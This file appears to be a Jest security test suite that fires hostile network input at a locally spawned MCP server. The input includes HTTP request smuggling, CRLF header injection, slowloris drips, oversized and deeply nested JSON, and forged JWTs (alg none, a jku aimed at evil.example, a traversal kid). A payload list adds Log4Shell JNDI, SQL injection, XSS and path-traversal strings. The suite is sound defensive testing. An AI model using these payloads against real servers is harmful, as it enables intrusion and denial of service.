/**
 * What a stranger on the network may try. Whatever it is: an answer that is not 5xx, or a closed
 * connection, within five seconds; nothing internal in it; and the process serves on.
 */
import { afterEach, beforeAll, describe, expect, test } from '@jest/globals';
import { dataFolder, serveInChild, tokenFor, type ServedChild } from '../support/e2e.ts';
import { rawRequest } from '../support/raw-http.ts';
import { rawSocket, type RawAnswer } from '../support/raw-socket.ts';
import { rawToken, testKey } from '../support/test-issuer.ts';
import { rpc, rpcRequest, type Era } from '../support/wire.ts';

let server: ServedChild;
let host = '';
let token = '';

beforeAll(async () => {
  const folder = await dataFolder();
  server = await serveInChild(folder, { CHECKPOINT_LOG_LEVEL: 'info' });
  host = new URL(server.url).host;
  token = await tokenFor(folder, 'ana', 'procedures:run', '--name', 'Ana');
});

/** Anything that tells of the inside: stacks, paths, SQL, modules, the token itself. */
const INTERNAL =
  /\n\s+at |node_modules|\/(?:work|home|root|tmp|usr)\/|\.[jt]s:\d|SELECT |INSERT |sqlite|TypeError|ECONN|errno|eyJ[\w-]+\./iu;

function harmless(text: string): void {
  expect(text).not.toMatch(INTERNAL);
  expect(text).not.toContain(token);
}

/** Still alive, and a person gets an answer. */
async function serving(): Promise<void> {
  expect(server.alive()).toBe(true);
  const { status, body } = await rpc({ url: server.url, token }, 'ping', {}, { id: 'alive' });
  expect([status, body]).toEqual([200, { jsonrpc: '2.0', id: 'alive', result: {} }]);
}

afterEach(async () => {
  await serving();
  expect(server.log()).not.toContain('unexpected error');
  expect(server.log()).not.toContain(token);
});

function settled({ text, status, closed, ms }: RawAnswer, statuses: readonly number[]): void {
  expect(statuses).toContain(status);
  expect([closed, ms < 5_000]).toEqual([true, true]);
  harmless(text);
}

const PING = '{"jsonrpc":"2.0","id":1,"method":"ping"}';
const LINE = 'POST /mcp HTTP/1.1';

/** A request as text: its line, its headers, its body. `close` is added, so that an answer ends. */
function http(line: string, headers: readonly string[], body = ''): string {
  return [line, ...headers, 'Connection: close', '', body].join('\r\n');
}
const basic = (): string[] => [`Host: ${host}`, 'Content-Type: application/json'];
const signed = (): string[] => [...basic(), `Authorization: Bearer ${token}`];
const length = (body: string): string => `Content-Length: ${Buffer.byteLength(body)}`;
const full = (...more: readonly string[]): string[] => [...signed(), length(PING), ...more];

const CLOSED = 0;

/** The server ends a connection after four seconds; the rest is room for a loaded machine. */
const HANG_MS = 15_000;

describe('malformed requests', () => {
  test.each<[string, () => string | Uint8Array, readonly number[]]>([
    ['no HTTP at all', () => 'hello\r\n\r\n', [400, CLOSED]],
    ['bytes of nothing', () => new Uint8Array(512).fill(0xff), [400, CLOSED]],
    ['a TLS hello', () => Buffer.from('160301020001000001fc0303', 'hex'), [400, CLOSED]],
    ['an unknown version', () => http('POST /mcp HTTP/9.9', full(), PING), [400, CLOSED]],
    ['HTTP/1.0 without a host', () => http('GET /health HTTP/1.0', []), [400, 403]],
    ['no host', () => http(LINE, full().slice(1), PING), [400]],
    ['a header without a colon', () => http(LINE, full('nothing'), PING), [400]],
    ['a space before the colon', () => http(LINE, full('X-A : b'), PING), [400]],
    ['a zero byte in a header', () => http(LINE, full('X-A: b\0c'), PING), [400]],
    ['a lone line feed in a header', () => http(LINE, full('X-A: b\nX-B: c'), PING), [200, 400]],
    ['a folded header', () => http(LINE, full('X-A: b\r\n c'), PING), [200, 400]],
    ['a path of control characters', () => http('POST /m\x01cp HTTP/1.1', full(), PING), [400]],
    ['a path that is not decodable', () => http('POST /%ff%zz HTTP/1.1', full(), PING), [404]],
    ['a path that climbs', () => http('POST /mcp/../../etc/passwd HTTP/1.1', full(), PING), [404]],
    ['a path of prototype names', () => http('GET /__proto__ HTTP/1.1', signed()), [404]],
    ['an unknown method', () => http('HACK /mcp HTTP/1.1', full(), PING), [400]],
  ])('%s', async (_what, bytes, statuses) => {
    settled(await rawSocket(server.url, [bytes()]), statuses);
  });
});

describe('smuggled requests', () => {
  const chunked = `${Buffer.byteLength(PING).toString(16)}\r\n${PING}\r\n0\r\n\r\n`;
  const hidden = 'GET /hidden HTTP/1.1\r\nHost: evil\r\n\r\n';

  test.each<[string, () => string, readonly number[]]>([
    [
      'a length and chunks',
      () => http(LINE, full('Transfer-Encoding: chunked'), chunked + hidden),
      [400],
    ],
    ['two lengths', () => http(LINE, full('Content-Length: 5'), PING), [400]],
    ['two equal lengths', () => http(LINE, full(length(PING)), PING), [200, 400]],
    ['a list of lengths', () => http(LINE, [...signed(), 'Content-Length: 5, 6'], PING), [400]],
    ['a negative length', () => http(LINE, [...signed(), 'Content-Length: -1'], PING), [400]],
    ['a length in hex', () => http(LINE, [...signed(), 'Content-Length: 0x10'], PING), [400]],
    [
      'a length beyond any integer',
      () => http(LINE, [...signed(), `Content-Length: ${'9'.repeat(30)}`], PING),
      [400],
    ],
    [
      'an encoding that is almost chunked',
      () => http(LINE, [...signed(), 'Transfer-Encoding: xchunked'], chunked),
      [400],
    ],
    [
      'chunked before another encoding',
      () => http(LINE, [...signed(), 'Transfer-Encoding: chunked, identity'], chunked),
      [400],
    ],
    [
      'a chunk of impossible size',
      () => http(LINE, [...signed(), 'Transfer-Encoding: chunked'], 'ffffffffffffffffff\r\n'),
      [400],
    ],
    [
      'a chunk without a size',
      () => http(LINE, [...signed(), 'Transfer-Encoding: chunked'], 'zz\r\nabc\r\n'),
      [400],
    ],
    ['two hosts', () => http(LINE, full('Host: evil.example'), PING), [400, 403]],
    ['two authorizations', () => http(LINE, full('Authorization: Bearer other'), PING), [401]],
    [
      'two content types',
      () => http(LINE, full('Content-Type: text/plain'), PING),
      [200, 400, 415],
    ],
    [
      'a foreign absolute target',
      () => http('POST http://evil.example/mcp HTTP/1.1', full(), PING),
      [400, 403],
    ],
    [
      'an absolute target with a foreign host header',
      () =>
        http(`POST http://${host}/mcp HTTP/1.1`, ['Host: evil.example', ...full().slice(1)], PING),
      [400, 403],
    ],
    [
      'credentials in an absolute target',
      () => http(`POST http://a:b@${host}/mcp HTTP/1.1`, full(), PING),
      [200, 400, 403],
    ],
    ['CONNECT', () => http('CONNECT evil.example:443 HTTP/1.1', signed()), [CLOSED, 400, 405]],
    ['TRACE', () => http('TRACE /mcp HTTP/1.1', signed()), [400, 405]],
    ['TRACE elsewhere', () => http('TRACE / HTTP/1.1', signed()), [400, 404, 405]],
    ['a question to the server', () => http('OPTIONS * HTTP/1.1', signed()), [400, 404, 405]],
    [
      'an upgrade to a web socket',
      () => http('GET /mcp HTTP/1.1', [...signed(), 'Upgrade: websocket', 'Sec-WebSocket-Key: x']),
      [400, 405],
    ],
    [
      'an upgrade to HTTP/2',
      () => http(LINE, full('Upgrade: h2c', 'HTTP2-Settings: AAAA'), PING),
      [200, 400],
    ],
    ['an expectation', () => http(LINE, full('Expect: 200-maybe'), PING), [200, 400, 417]],
    [
      'line breaks in a path',
      () => http('POST /mcp%0d%0aX-Injected:%20yes HTTP/1.1', full(), PING),
      [404],
    ],
    [
      'line breaks in what is echoed',
      () => http(LINE, full('Mcp-Protocol-Version: 2025%0d%0aX-Injected: yes'), PING),
      [400],
    ],
    [
      'line breaks in an origin',
      () => http(LINE, full('Origin: http://evil%0d%0aX-Injected: yes'), PING),
      [403],
    ],
  ])('%s', async (_what, text, statuses) => {
    const answer = await rawSocket(server.url, [text()]);
    settled(answer, statuses);
    expect(answer.text).not.toMatch(/^x-injected/imu);
    // One request, one answer: nothing hidden behind it is served.
    expect(answer.text.match(/HTTP\/1\.1 \d{3}/gu) ?? []).toHaveLength(answer.status === 0 ? 0 : 1);
  });
});

describe('too much', () => {
  test.each<[string, () => string, readonly number[]]>([
    ['a header of 20 KB', () => http(LINE, full(`X-A: ${'a'.repeat(20_000)}`), PING), [431]],
    [
      'a token of 100 KB',
      () => http(LINE, [...basic(), `Authorization: Bearer ${'a'.repeat(100_000)}`], PING),
      [401, 431],
    ],
    [
      'headers of 16 KB in thousands of lines',
      () => http(LINE, full(...Array.from({ length: 3_000 }, (_, i) => `X-${i}: a`)), PING),
      [431],
    ],
    [
      'a path of 20 KB',
      () => http(`POST /${'a'.repeat(20_000)} HTTP/1.1`, full(), PING),
      [414, 431],
    ],
    ['a path of 8 KB', () => http(`POST /${'a'.repeat(8_000)} HTTP/1.1`, full(), PING), [404]],
  ])('%s', async (_what, text, statuses) => {
    settled(await rawSocket(server.url, [text()]), statuses);
  });

  const six = 6 * 1_024 * 1_024;
  const post = (body: string | Uint8Array, more: { readonly [name: string]: string } = {}) =>
    rawRequest(server.url, {
      headers: { 'content-type': 'application/json', authorization: `Bearer ${token}`, ...more },
      body,
    }).then(
      ({ status, text }) => ({ status, text }),
      // The answer may be cut off by what is still being sent.
      () => ({ status: CLOSED, text: '' }),
    );

  test.each<[string, string]>([
    ['brackets', '['.repeat(six)],
    ['spaces', ' '.repeat(six)],
    ['one text', `"${'a'.repeat(six)}"`],
  ])('6 MB of %s is 413', async (_what, body) => {
    const { status, text } = await post(body);
    expect([413, CLOSED]).toContain(status);
    harmless(text);
  });

  test('6 MB in chunks without a length is 413', async () => {
    const chunk = `10000\r\n${'a'.repeat(65_536)}\r\n`;
    const head = http(LINE, [...signed(), 'Transfer-Encoding: chunked'], '');
    const answer = await rawSocket(server.url, [head, ...Array.from({ length: 96 }, () => chunk)]);
    expect([413, CLOSED]).toContain(answer.status);
    expect(answer.ms).toBeLessThan(HANG_MS);
  });

  test('6 MB without a token is 401, unread', async () => {
    const head = http(LINE, [...basic(), `Content-Length: ${six}`], '{');
    const answer = await rawSocket(server.url, [head]);
    expect(answer.status).toBe(401);
    expect(answer.ms).toBeLessThan(HANG_MS);
  });

  test.each<[string, string]>([
    ['deep arrays', `{"jsonrpc":"2.0","id":1,"method":"ping","params":${'['.repeat(120_000)}`],
    ['deep objects', `${'{"a":'.repeat(40_000)}1${'}'.repeat(40_000)}`],
    ['many containers', `[${'[],'.repeat(80_000)}[]]`],
    ['a number of 200,000 digits', `{"jsonrpc":"2.0","id":${'9'.repeat(200_000)},"method":"ping"}`],
    ['200,000 signs of an exponent', `{"id":1e${'9'.repeat(200_000)}}`],
    ['escapes only', `"${'\\u0000'.repeat(40_000)}"`],
  ])('%s are refused at once', async (_what, body) => {
    const from = performance.now();
    const { status, text } = await post(body);
    expect(status).toBe(400);
    expect(performance.now() - from).toBeLessThan(HANG_MS);
    expect(text.length).toBeLessThan(1_000);
    harmless(text);
  });

  test('a compressed body is not unpacked', async () => {
    const { status } = await post(new Uint8Array(1_000), { 'content-encoding': 'gzip' });
    expect(status).toBe(415);
  });
});

describe('too slow', () => {
  const drip = (text: string): string[] => [...text];

  test.each<[string, () => readonly string[], readonly number[]]>([
    ['a connection that says nothing', () => [], [CLOSED, 408]],
    ['headers letter by letter', () => drip(http(LINE, full(), PING)), [CLOSED, 408]],
    [
      'headers without an end',
      () => [`${LINE}\r\n`, ...Array.from({ length: 100 }, (_, i) => `X-${i}: a\r\n`)],
      [CLOSED, 408],
    ],
    [
      'a body letter by letter, without a token',
      () => [http(LINE, [...basic(), 'Content-Length: 200000'], ''), ...drip('{'.repeat(60))],
      [401, CLOSED, 408],
    ],
    [
      'a body letter by letter, with a token',
      () => [http(LINE, [...signed(), 'Content-Length: 200000'], ''), ...drip(' '.repeat(60))],
      [CLOSED, 400, 408],
    ],
    [
      'a body that never comes',
      () => [http(LINE, [...signed(), 'Content-Length: 100'], '')],
      [CLOSED, 400, 408],
    ],
    [
      'chunks letter by letter',
      () => [
        http(LINE, [...signed(), 'Transfer-Encoding: chunked'], ''),
        ...Array.from({ length: 60 }, () => '1\r\n \r\n'),
      ],
      [CLOSED, 400, 408],
    ],
    [
      'a connection that is kept and not used',
      () => [[LINE, ...full(), '', PING].join('\r\n')],
      [200],
    ],
  ])(
    '%s is over within five seconds',
    async (_what, parts, statuses) => {
      settled(await rawSocket(server.url, parts(), { pauseMs: 100 }), statuses);
    },
    10_000,
  );

  test('two hundred slow connections keep nobody else waiting', async () => {
    const slow = Array.from({ length: 200 }, () =>
      rawSocket(server.url, [`${LINE}\r\n`, ...drip('Host: somewhere')], { pauseMs: 250 }),
    );
    const from = performance.now();
    for (let n = 0; n < 20; n++) await serving();
    expect(performance.now() - from).toBeLessThan(HANG_MS);
    for (const answer of await Promise.all(slow)) settled(answer, [CLOSED, 408]);
  }, 15_000);
});

describe('tokens that nobody gave', () => {
  test('foreign, forged, unsigned and odd ones are 401, and no answer repeats them', async () => {
    const key = await testKey('forged');
    const claims = { iss: server.url, aud: server.url, sub: 'ana', tenant: 'local', exp: 9e9 };
    const [head = '', payload = '', mac = ''] = token.split('.');
    for (const forged of [
      await key.sign({ iss: server.url, aud: server.url, exp: 9e9 }),
      rawToken({ alg: 'none' }, claims, ''),
      rawToken({ alg: 'HS256' }, claims, 'c2lnbmF0dXJl'),
      rawToken({ alg: 'RS256', jku: 'http://evil.example/keys' }, claims, 'c2ln'),
      rawToken({ alg: 'ES256', kid: '../../../etc/passwd' }, claims, 'c2ln'),
      rawToken({ alg: 'ES256', kid: "' OR 1=1 --" }, claims, 'c2ln'),
      rawToken({ alg: 'ES256', kid: '__proto__' }, claims, 'c2ln'),
      // Another signature whatever this one is.
      `${head}.${payload}.${mac.startsWith('A') ? 'B' : 'A'}${mac.slice(1)}`,
      `${head}.${payload}.`,
      `${head}..${mac}`,
      'a.b.c',
      '...',
      `${'a'.repeat(4_000)}.${'b'.repeat(4_000)}.c`,
    ]) {
      const { status, text } = await rpc({ url: server.url, token: forged }, 'ping');
      expect([forged.slice(0, 40), status]).toEqual([forged.slice(0, 40), 401]);
      expect(text).toBe(
        '{"error":"unauthorized","message":"Access token required to use this tool."}',
      );
    }
  });
});

describe('names and texts that mean something to a program', () => {
  const NASTY = [
    '__proto__',
    'constructor',
    'toString',
    'hasOwnProperty',
    '../../etc/passwd',
    "'; DROP TABLE workflows; --",
    '${jndi:ldap://evil.example/a}',
    '{{7*7}}',
    '<script>alert(1)</script>',
    '%00%0d%0aX-Injected: yes',
    '\u0000\u0007',
    '\u202Eevil',
    'a'.repeat(5_000),
  ];

  test.each<Era>(['handshake', 'stateless'])(
    'are names like any other, wherever they stand (%s era)',
    async (era) => {
      const peer = { url: server.url, token, era };
      // A header cannot carry every name: what it stands for is compared before it is looked up.
      const headers = { 'mcp-name': undefined };
      for (const nasty of NASTY) {
        for (const [method, params] of [
          [nasty, {}],
          ['tools/call', { name: nasty, arguments: {} }],
          ['tools/call', { name: 'get_workflow', arguments: { workflow_id: nasty } }],
          ['tools/call', { name: 'get_workflow', arguments: { [nasty]: 1 } }],
          ['tools/call', { name: 'start_workflow', arguments: { procedure: nasty, asset: nasty } }],
          ['resources/read', { uri: `procedure://${nasty}` }],
          ['resources/read', { uri: `workflow://${nasty}/events?after=${nasty}` }],
          ['prompts/get', { name: nasty, arguments: { [nasty]: nasty } }],
          [
            'completion/complete',
            { ref: { type: nasty, name: nasty }, argument: { name: nasty, value: nasty } },
          ],
          [
            'initialize',
            {
              protocolVersion: nasty,
              capabilities: {},
              clientInfo: { name: nasty, version: nasty },
            },
          ],
        ] as const) {
          const request = rpcRequest(era, method, params);
          const safe = /^[\x20-\x7e]*$/u.test(method) && method.length < 1_000;
          const all = { ...request.headers, ...headers, ...(!safe && { 'mcp-method': undefined }) };
          const { status, text } = await rawRequest(peer.url, {
            body: request.body,
            headers: { ...all, authorization: `Bearer ${token}` },
          });
          expect([method, status < 500]).toEqual([method, true]);
          harmless(text.replaceAll(nasty, ''));
        }
      }
    },
    60_000,
  );

  test('members named like a prototype change nothing', async () => {
    const body =
      '{"jsonrpc":"2.0","id":1,"method":"tools/call","__proto__":{"method":"ping"},"params":{"name":"what_can_i_do","arguments":{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}}}';
    const { status, text } = await rawRequest(server.url, {
      headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` },
      body,
    });
    expect([200, 400]).toContain(status);
    harmless(text);
    const clean = await rpc({ url: server.url, token }, 'tools/list');
    expect(clean.text).not.toContain('polluted');
  });
});

describe('many at once', () => {
  test('a thousand requests, a hundred at a time, are all answered, none with 5xx', async () => {
    const kinds = [
      () => rpc({ url: server.url, token }, 'ping'),
      () => rpc({ url: server.url, token: 'nobody' }, 'ping'),
      () => rpc({ url: server.url, token }, 'tools/list'),
      () =>
        rpc({ url: server.url, token }, 'tools/call', { name: 'list_my_workflows', arguments: {} }),
      () => rawRequest(new URL('/health', server.url).href, { method: 'GET' }),
    ];
    const statuses: number[] = [];
    for (let round = 0; round < 10; round++) {
      const replies = await Promise.all(
        Array.from({ length: 100 }, (_, n) => kinds[n % kinds.length]?.() ?? serving()),
      );
      statuses.push(...replies.map((reply) => reply?.status ?? 0));
    }
    expect(statuses.filter((status) => ![200, 401].includes(status))).toEqual([]);
    expect(statuses.filter((status) => status === 401)).toHaveLength(200);
  }, 60_000);
});
